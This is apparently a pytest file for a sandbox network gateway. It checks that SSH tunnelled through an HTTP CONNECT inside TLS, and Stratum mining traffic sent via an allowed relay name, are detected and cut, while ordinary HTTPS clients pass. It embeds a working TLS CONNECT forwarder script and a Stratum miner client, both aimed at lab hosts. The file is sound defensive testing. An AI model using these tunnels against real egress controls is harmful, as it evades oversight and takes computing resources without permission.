"""Tunnels inside an allowed TLS channel (issue 11, "what still gets through"): an HTTP
``CONNECT`` *inside* TLS to the attacker's relay on an allowed name
(``relay.allowed.lab.test:443``, allowed by the wildcard ``*.allowed.lab.test:443``)
carrying SSH or Stratum to forbidden hosts, and Stratum spoken in TLS to the relay
itself. The gateway cannot read inside TLS; it judges the shape of the bursts it
relays (``gateway/shape.py``) and cuts. Every case is measured at the far end (the
lab sshd's sessions, the pool's and the relay's byte logs, the relay's tunnel log) and
checked to be recorded with a verdict charged to its call; honest TLS clients of the
same kinds run untouched. These run with TLS inspection off (``OPAQUE``): the shape
rule is what guards entries that are not inspected (``inspect: false``);
``test_tls_inspect.py`` runs the same attacks with inspection on.
"""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from bastion import Session
from bastion.events import EventKind
from bastion.lab import Lab

from .conftest import LAB_POLICY

# the lab policy with TLS left opaque: only the burst shape is watched
OPAQUE = {**LAB_POLICY, "network": {**LAB_POLICY["network"], "tls_inspect": False}}
from .test_egress import SSH_OPTS, _forward_listening, _trusted_key, wait_events

# a local forwarder: each connection to 127.0.0.1:2224 becomes TLS to the relay, a
# CONNECT to the target inside it, then bytes both ways (no ALPN, like a hand-made one)
FORWARDER = r'''
import socket, ssl, sys, threading
target = sys.argv[1]
alpn = sys.argv[2].split(",") if len(sys.argv) > 2 else []
listener = socket.socket(); listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", 2224)); listener.listen(4)
open("/workspace/fwd-ready", "w").close()
def pipe(a, b):
    try:
        while True:
            data = a.recv(65536)
            if not data: break
            b.sendall(data)
    except OSError: pass
    for s in (a, b):
        try: s.shutdown(socket.SHUT_RDWR)
        except OSError: pass
while True:
    local, _ = listener.accept()
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)  # a flag any client sets: it buys nothing
    remote = ctx.wrap_socket(socket.create_connection(("relay.allowed.lab.test", 443)),
                             server_hostname="relay.allowed.lab.test")
    remote.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += remote.recv(1)
    threading.Thread(target=pipe, args=(local, remote), daemon=True).start()
    threading.Thread(target=pipe, args=(remote, local), daemon=True).start()
'''
START_FORWARDER = ("(python3 /workspace/fwd.py {target} {alpn} &); "
                   "while [ ! -e /workspace/fwd-ready ]; do sleep 0.05; done; ")


def _relay_tunnels(lab: Lab, target: str) -> int:
    return sum(1 for line in lab.relay_log() if line == f"connect {target}")


@pytest.mark.parametrize("master,alpn", [(False, ""), (False, "h2,http/1.1"), (True, "")],
                         ids=["plain-ssh", "plain-ssh-alpn-h2", "ssh-M-and-mux"])
def test_ssh_behind_a_connect_inside_tls_never_reaches_a_shell(
        lab: Lab, make_session: Callable[..., Session], master: bool, alpn: str) -> None:
    """The adversarial run's reverse tunnel: TLS to the relay on :443, CONNECT to an
    sshd, and ``ssh`` through it (``-M`` plus a forward asked for later on the control
    socket, or a plain command). The relay opens the tunnel; the gateway sees SSH's
    framing behind the CONNECT exchange and the TLS tickets, and cuts before a session
    channel opens."""
    from .test_ssh_allowed import MUX_FORWARD

    session = make_session(OPAQUE, lab=True)
    _trusted_key(lab, session)
    session.write_file("/workspace/fwd.py", FORWARDER)
    session.write_file("/workspace/mux.py", MUX_FORWARD)
    target = "203.0.113.66:22"
    sessions, tunnels = lab.shell_sessions(), _relay_tunnels(lab, target)
    ssh = (f"timeout 10 ssh {SSH_OPTS} -p 2224 -M -S /tmp/cm -f root@127.0.0.1 'sleep 40'; "
           "python3 /workspace/mux.py" if master else
           f"timeout 10 ssh {SSH_OPTS} -p 2224 root@127.0.0.1 'echo SHELL-REACHED; sleep 2'")
    r = session.exec(START_FORWARDER.format(target=target, alpn=alpn) + ssh + "; echo rc=$?",
                     call_id="tunnel")
    assert "SHELL-REACHED" not in r.stdout and "mux reply" not in r.stdout, r.stdout
    assert lab.shell_sessions() == sessions
    assert not _forward_listening(lab)
    verdicts = {v.rule_id: v for v in session.verdicts if v.call_id == "tunnel"}
    if master:
        # the master is judged as it starts (a multiplexing master is a forwarding
        # capability); if it got as far as the tunnel, its shape cut it there
        assert "tunnels.ssh_forward_exec" in verdicts or "tunnels.ssh_in_tls" in verdicts
        return
    # the relay did open the tunnel: what stopped SSH was the gateway, inside TLS
    assert _relay_tunnels(lab, target) > tunnels
    cut = wait_events(session, EventKind.NET_FLOW,
                      lambda e: e.get("net.rule") == "gateway.ssh_in_tls")
    assert cut and cut[0].call_id == "tunnel" and cut[0].get("net.sni") == "relay.allowed.lab.test"
    assert "tunnels.ssh_in_tls" in verdicts


MINER = r'''
import json, socket, ssl, sys, time
mode, alpn = sys.argv[1], sys.argv[2]
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
if alpn != "none":
    ctx.set_alpn_protocols([alpn])
accepted = 0
try:
    s = ctx.wrap_socket(socket.create_connection(("relay.allowed.lab.test", 443), timeout=5),
                        server_hostname="relay.allowed.lab.test")
    if mode == "connect":
        s.sendall(b"CONNECT 203.0.113.33:3333 HTTP/1.1\r\nHost: 203.0.113.33:3333\r\n\r\n")
        s.recv(200)
    calls = [("mining.subscribe", ["cpuminer/2.5"]), ("mining.authorize", ["WALLET.w1", "x"])]
    calls += [("mining.submit", ["WALLET.w1", "job%02d" % k, "00000000", "5f5e1000",
                                 "%08x" % (k * 7919)]) for k in range(40)]
    for i, (method, params) in enumerate(calls):
        s.sendall(json.dumps({"id": i + 1, "method": method, "params": params}).encode() + b"\n")
        if not s.recv(4096):
            break
        accepted += method == "mining.submit"
        time.sleep(0.05)
except OSError as exc:
    print("cut", type(exc).__name__)
print("accepted", accepted)
'''


@pytest.mark.parametrize("mode,alpn", [("connect", "none"), ("direct", "none"),
                                       ("connect", "http/1.1")])
def test_stratum_inside_tls_to_an_allowed_host_is_cut(
        lab: Lab, make_session: Callable[..., Session], mode: str, alpn: str) -> None:
    """A miner talking JSON-RPC in TLS to the relay on an allowed name — behind a
    CONNECT to the forbidden pool, or to the relay acting as a pool. Shape: small
    shares, each answered by a tiny acknowledgement; the gateway cuts at once, ALPN or
    not. The pool sees the login and at most 8 shares of the 40, never the session."""
    session = make_session(OPAQUE, lab=True)
    session.write_file("/workspace/miner.py", MINER)
    pool, relay = len(lab.pool_bytes()), len(lab.relay_bytes())
    r = session.exec(f"python3 /workspace/miner.py {mode} {alpn}", call_id="miner")
    # the verdict's default response ends the call: the miner may not live to say so
    accepted = re.search(r"accepted (\d+)", r.stdout)
    assert accepted is None or int(accepted.group(1)) <= 8, r.stdout
    received = (lab.pool_bytes()[pool:] if mode == "connect" else lab.relay_bytes()[relay:])
    assert b"mining.authorize" in received  # it did get as far as the pool
    assert received.count(b"mining.submit") <= 9, received.count(b"mining.submit")
    found = [v for v in session.verdicts if v.rule_id == "mining.stratum_in_tls"]
    assert found and found[0].call_id == "miner"
    flows = wait_events(session, EventKind.NET_FLOW,
                        lambda e: e.get("net.shape") == "stratum" and e.call_id == "miner")
    assert any(e.get("net.rule") == "gateway.stratum_in_tls" for e in flows)


HONEST_TLS = r'''
import json, os, socket, ssl, sys, time
ctx = ssl.create_default_context(cafile="/workspace/ca.pem")
def connect(alpn):
    c = ssl.create_default_context(cafile="/workspace/ca.pem")
    if alpn:
        c.set_alpn_protocols(alpn)
    return c.wrap_socket(socket.create_connection(("allowed.lab.test", 443), timeout=5),
                         server_hostname="allowed.lab.test")
def response(s):
    data = b""
    while b"\r\n\r\n" not in data:
        data += s.recv(4096)
    head, _, body = data.partition(b"\r\n\r\n")
    length = int(re.search(rb"(?i)content-length: (\d+)", head).group(1))
    while len(body) < length:
        body += s.recv(65536)
    return head
import re
# keep-alive HTTPS clients, with and without ALPN, small and large answers
for alpn in (None, ["http/1.1"]):
    s = connect(alpn)
    for i in range(60):
        path = "/bytes/%d" % (i * 997 % 5000) if i % 3 else "/api/%d" % i
        s.sendall(b"GET %s HTTP/1.1\r\nHost: allowed.lab.test\r\nUser-Agent: pip/24\r\n\r\n"
                  % path.encode())
        assert response(s).startswith(b"HTTP/1.1 200"), i
    s.close()
# a websocket over TLS: chat messages of any size, and pings
w = connect(["http/1.1"])
w.sendall(b"GET /ws HTTP/1.1\r\nHost: allowed.lab.test\r\nUpgrade: websocket\r\n"
          b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
          b"Sec-WebSocket-Version: 13\r\n\r\n")
assert b" 101 " in w.recv(4096)
for i in range(80):
    msg = json.dumps({"method": "chat.send", "params": {"text": "x" * (i * 7 % 60)}}).encode()
    opcode = 0x89 if i % 10 == 9 else 0x81
    mask = os.urandom(4)
    w.sendall(bytes([opcode, 0x80 | len(msg)]) + mask
              + bytes(b ^ mask[j % 4] for j, b in enumerate(msg)))
    got = w.recv(4096)
    assert got[2:] == msg, (i, got)
w.close()
# a long download
t = connect(["http/1.1"])
t.sendall(b"GET /bytes/20000000 HTTP/1.1\r\nHost: allowed.lab.test\r\nConnection: close\r\n\r\n")
total = 0
while True:
    chunk = t.recv(1 << 16)
    if not chunk:
        break
    total += len(chunk)
print("ok", total > 20000000)
'''


def test_honest_tls_clients_are_untouched(lab: Lab, make_session: Callable[..., Session]) -> None:
    """Keep-alive HTTPS clients (no ALPN and ``http/1.1``), a websocket over TLS, a
    long download and curl reusing one connection: no cut, no verdict."""
    session = make_session(OPAQUE, lab=True)
    session.write_file("/workspace/ca.pem", lab.ca_path.read_text())
    session.write_file("/workspace/honest.py", HONEST_TLS)
    r = session.exec(["python3", "/workspace/honest.py"], call_id="honest", timeout=120)
    assert r.stdout.strip() == "ok True", r.stdout + r.stderr
    urls = " ".join(f"https://allowed.lab.test/page{i}" for i in range(30))
    c = session.exec(f"curl -sS --cacert /workspace/ca.pem {urls} | grep -c hello",
                     call_id="curl")
    assert c.stdout.strip() == "30", c.stdout + c.stderr
    assert session.verdicts == []
    assert not any(e.get("net.cut") or e.get("net.shape") in ("ssh", "stratum")
                   for e in session.events
                   if e.kind in (EventKind.NET_FLOW, EventKind.NET_CLOSE))
